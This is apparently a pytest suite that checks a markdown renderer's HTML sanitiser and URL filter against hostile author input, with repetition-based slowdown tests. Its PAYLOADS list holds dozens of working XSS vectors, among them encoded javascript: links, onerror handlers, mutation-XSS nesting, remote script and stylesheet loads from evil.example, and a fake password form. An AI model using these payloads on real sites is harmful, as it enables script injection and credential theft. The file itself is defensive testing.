"""Hostile texts by authors: nothing that runs, loads from elsewhere or covers the page may be left  (T92)."""

import time
from html.parser import HTMLParser

import pytest

from common.markdown import plain_text, render_markdown
from common.sanitising import TAGS, safe_address

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script>alert(1)</script> text",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="x" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
    '<img src=x onerror="alert(1)">',
    "<img src=x:x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    '![x](https://x"onerror="alert(1))',
    '![x](https://x.example/a.png "a" onerror="alert(1)")',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div class="fixed inset-0 btn btn-primary" id="main">x</div>',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="https://evil.example/">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<body onload="alert(1)">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "`<img src=x onerror=alert(1)>`",
    '```x"><img/src=x/onerror=alert(1)>\ncode\n```',
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    '# <img src=x onerror=alert(1)> "title',
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<span data-embed="0-0" class="k x-y zzzz">x</span>',
    '<p tabindex="5" role="alert" autofocus accesskey="x" contenteditable>x</p>',
    '<a href="https://x.example" target="_blank" ping="https://evil.example" download>x</a>',
]  # fmt: skip

ATTRIBUTES = {
    "align", "alt", "aria-label", "class",
    "height", "href", "id", "loading", "open", "rel", "role", "scope",
    "src", "start", "tabindex", "title", "width",
}  # fmt: skip


class Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attributes = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs


def collect(html):
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "- {}", "> {}", "words {} words", "<div>\n{}\n</div>"])
def test_render_markdown_leaves_nothing_that_runs(payload, around):
    found = collect(render_markdown(around.format(payload), embed=lambda address: None))

    assert found.tags <= TAGS
    assert {name for name, _ in found.attributes} <= ATTRIBUTES
    for name, value in found.attributes:
        if name in ("href", "src"):
            assert safe_address(value) == value
        if name == "class":
            assert not set(value.split()) & {"fixed", "btn", "inset-0"}
        if name == "id":
            assert value.startswith(("h-", "fn-h-", "fnref-h-"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_plain_text_is_text(payload):
    assert isinstance(plain_text(payload, 50), str)


@pytest.mark.parametrize(
    "address",
    [
        "javascript:x",
        "JAVASCRIPT:x",
        "data:x",
        "vbscript:x",
        "file:///x",
        "//x",
        "\\\\x",
        "/\\x",
        " javascript:x",
        "java\nscript:x",
        "x\x00",
        "",
        None,
    ],
)
def test_safe_address_refuses(address):
    assert safe_address(address) is None


@pytest.mark.parametrize(
    "address", ["https://x", "HTTP://x", "mailto:a@b.example", "tel:+331", "/a/b", "a/b", "#c", "?q=1"]
)
def test_safe_address_lets_through(address):
    assert safe_address(address) == address


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        "<script>" * 8_000,
        "> " * 20_000,
        "*a_" * 20_000,
        "`" * 20_000,
        "|" * 20_000,
        "<!--" * 10_000,
        "- " * 5_000,
    ],
    ids=lambda text: text[:8],
)
def test_render_markdown_is_not_slowed_down_by_repetition(text):
    started = time.perf_counter()

    render_markdown(text)

    assert time.perf_counter() - started < 15
